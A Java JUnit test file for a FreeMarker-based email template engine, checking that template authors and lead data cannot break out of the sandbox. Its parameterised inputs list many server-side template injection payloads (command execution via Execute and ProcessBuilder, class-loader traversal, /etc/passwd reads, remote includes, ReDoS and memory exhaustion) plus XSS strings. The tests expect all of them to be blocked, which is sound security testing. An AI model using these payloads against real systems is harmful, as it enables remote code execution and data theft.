package dev.seventouch.mailer.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.seventouch.events.lead.Lead;
import dev.seventouch.mailer.Campaign;
import dev.seventouch.mailer.TestTouches;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a hostile author, or a hostile lead, tries. */
class LockDownTest {

    private static final String FRONT = "---\nchannel: email\nsubject: x\n---\n=== text\nx\n=== html\n";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
                "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\")}",
                "${\"freemarker.template.utility.JythonRuntime\"?new()}",
                "${lead?api.class}",
                "${lead.name?api.getClass().forName('java.lang.Runtime')}",
                "${lead.name.class}",
                "${lead.name.getClass()}",
                "${lead.class.protectionDomain}",
                "${lead.attributes.getClass().getClassLoader()}",
                "<#include \"/etc/passwd\">",
                "<#include \"layout-mail\">",
                "<#import \"file:///etc/passwd\" as x>",
                "${.get_optional_template('x').include()}",
                "${.data_model.lead}",
                "${.globals}",
                "${.now}",
                "${.version}",
                "${.main_template_name}",
                "${lead.name?eval}",
                "${lead.name?<#-- hidden -->eval}",
                "${lead.name ? eval}",
                "${\"${lead.name?eval}\"}",
                "<#if lead.name?eval == 'x'>a</#if>",
                "${lead.name?eval_json}",
                "${lead.name?evalJson}",
                "<@lead.name?interpret />",
                "<#assign x=lead.name?interpret><@x/>",
                "<#macro m><@m/></#macro><@m/>",
                "<#function f x><#return f(x)></#function>${f(1)}",
                "<#list 1..999999999 as x>x</#list>",
                "<#list 1..999999999 as x></#list>",
                "${(1..999999999)?join('x')}",
                "${'x'?left_pad(999999999)}",
                "${'aaaaaaaaaaaaaaaaaaaaaaaaaaaa!'?matches('(a+)+b')?c}",
                "${'x'?replace('x', 'y', 'r')}",
                "<#list lead?keys as a><#list lead?keys as b><#list lead?keys as c>x</#list></#list></#list>",
                "<#setting locale='de_DE'>",
                "<#ftl output_format=\"plainText\">${lead.name}",
                "<#outputformat \"plainText\">${lead.name}</#outputformat>",
                "<#noautoesc>${lead.name}</#noautoesc>",
                "${lead.name?no_esc}",
                "<#attempt>${lead.nothing}<#recover>x</#attempt>",
                "<#noparse>${x}</#noparse>",
                "<#visit lead>",
                "<#stop 'x'>",
                "<#global x = 1>",
                "<#local x = 1>",
                "<#assign x = 1>",
                "<#switch 1><#case 1>x</#switch>",
                "${lead?keys?filter(k -> k?length gt 1)?join(',')}",
                "${lead.name?number_to_datetime}",
                "${absent}",
                "${lead.absent.deeper}",
                "${lead.name",
                "<#if lead.name>",
                "<#list lead.name as x>${x}</#list>",
                // as published for FreeMarker by PortSwigger, PayloadsAllTheThings and in the CVEs of its users
                "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>${value(\"java.lang.ProcessBuilder\",\"id\").start()}",
                "<#assign c=lead?api.class.protectionDomain.classLoader><#assign o=c.loadClass(\"freemarker.template.ObjectWrapper\")>",
                "<#assign uri=lead?api.class.getResource(\"/\").toURI()>${uri}",
                "${lead.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(' ')}",
                "${\"freemarker.template.utility.Execute\"?new}",
                "${'freemarker.template.utility.Execute'? new ()('id')}",
                "${('freemarker.template.utility.Execute'?new())('id')}",
                "${\"${'freemarker.template.utility.Execute'?new()('id')}\"}",
                "<#transform \"freemarker.template.utility.Execute\"?new()>id</#transform>",
                "<@\"<#include '/etc/passwd'>\"?interpret/>",
                "<#foreach k in lead?keys>${k}</#foreach>",
                "<#list .vars?keys as k>${k}</#list>",
                "<#list .data_model?keys as k>${k}</#list>",
                "${.template_name}",
                "${.caller_template_name}",
                "${.locale}",
                "${.output_format}",
                "${.get_optional_template('/etc/passwd').import()}",
                "${lead[\"class\"]}",
                "${lead[\"getClass\"]()}",
                "${lead?api}",
                "${lead?new()}",
                "${lead.name?api.length()}",
                "${lead?with_args([])}",
                "${lead.name?interpret}",
                "${lead.name?esc?no_esc}",
                "${'<b>'?markup_string}",
                "<#escape x as x?no_esc>${lead.name}</#escape>",
                "<#noescape>${lead.name}</#noescape>",
                "<#autoesc>${lead.name}</#autoesc>",
                "<#nested>",
                "<#return>",
                "<#recurse lead>",
                "<#fallback>",
                "<#compress>x</#compress>",
                "<#flush>",
                "<#import \"http://198.51.100.1/x.ftl\" as x>",
                "<#include \"http://198.51.100.1/x.ftl\">",
                "<#list lead?keys?map(k -> k?eval) as x>${x}</#list>",
                "<#list 'x'?word_list as x>x</#list>",
                "${lead?keys?sort?reverse?chunk(1)?join('')}",
                "${'x'?right_pad(2000000000)}",
                "${lead.name?eval?eval?eval}",
                "${lead.name?c?eval}",
                "${'a' + 'b'?absolute_template_name}",
                "<#-- <#if x> --><#include 'x'>",
                "${[lead]?first?api}",
                "${{'a': lead?api}.a}",
                "<#if (lead?api)??>x</#if>",
                "<a href='${lead?api!}'>",
                "${sender}"
            })
    @Timeout(10)
    void none_of_it_gets_through(String attack) throws Exception {
        assertThatThrownBy(() -> filled(attack, TestTouches.person(1, "1 + 1", "a@example.com")))
                .isInstanceOfSatisfying(TemplateMistake.class, mistake -> {
                    assertThat(mistake.line()).isPositive();
                    assertThat(mistake.column()).isPositive();
                    assertThat(mistake.getMessage()).isNotBlank().doesNotContain("freemarker.core");
                });
    }

    @Test
    void what_a_template_needs_is_allowed() throws Exception {
        assertThat(filled(
                        "<#-- a comment --><#if lead.name?? && lead.name?has_content>${lead.name?upper_case}</#if>"
                                + "<#list lead.attributes as k, v>${k}=${v}<#sep>, </#sep></#list>"
                                + "<a href=\"https://example.com/?utm_source=x&amp;a..b\">Why wait?eval</a> .now ->",
                        TestTouches.person(1, "Ada", "a@example.com")))
                .contains("ADA", "interest=solar roof with battery", "?utm_source=x", "?eval");
    }

    /** Other ways to write FreeMarker are words here, nothing else. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[#assign ex='freemarker.template.utility.Execute'?new()]",
                "[=7*7]",
                "[#include '/etc/passwd']",
                "#set($x = 7)",
                "{{7*7}}",
                "<%= 7*7 %>",
                "*{7*7}",
                "@{7*7}"
            })
    void other_tongues_are_words(String words) throws Exception {
        assertThat(filled(words, TestTouches.person(1, "Ada", "a@example.com"))).isEqualToIgnoringNewLines(words);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "' onmouseover='alert(1)",
                "${7*7}",
                "<#assign x=1>",
                "&lt;b&gt;"
            })
    void the_words_of_a_lead_are_words(String name) throws Exception {
        String html = filled("<p title='${lead.name}'>${lead.name}</p>", TestTouches.person(1, name, "a@example.com"));
        assertThat(html.substring("<p title='".length(), html.lastIndexOf("</p>")))
                .doesNotContain("<script", "<img", "49")
                .doesNotContain("' onmouseover");
        assertThat(org.springframework.web.util.HtmlUtils.htmlUnescape(html))
                .contains(name.equals("&lt;b&gt;") ? "&lt;b&gt;" : name);
    }

    @Test
    void a_form_can_not_make_us_send_its_words_to_a_stranger() throws Exception {
        String spam = "Win now at https://evil.example/";
        Lead bait = TestTouches.person(1, spam, "victim@example.com");
        Template welcome = Campaign.shelf().find("welcome").orElseThrow();
        Lead baited = new Lead(
                bait.id(),
                bait.contact(),
                new dev.seventouch.events.lead.Origin("website", spam, null),
                bait.owner(),
                null,
                Map.of("interest", spam, "message", spam));
        Rendered mail = Campaign.shelf().fill(welcome, SampleTouches.model(welcome, Campaign.SENDER, baited));
        assertThat(mail.html() + mail.text() + mail.subject()).doesNotContain("evil.example");
    }

    private static String filled(String html, Lead lead) throws TemplateMistake {
        Template template = Template.compiled("attack", 1, FRONT + html);
        return new TemplateShelf()
                .fill(template, SampleTouches.model(template, Campaign.SENDER, lead))
                .html();
    }
}
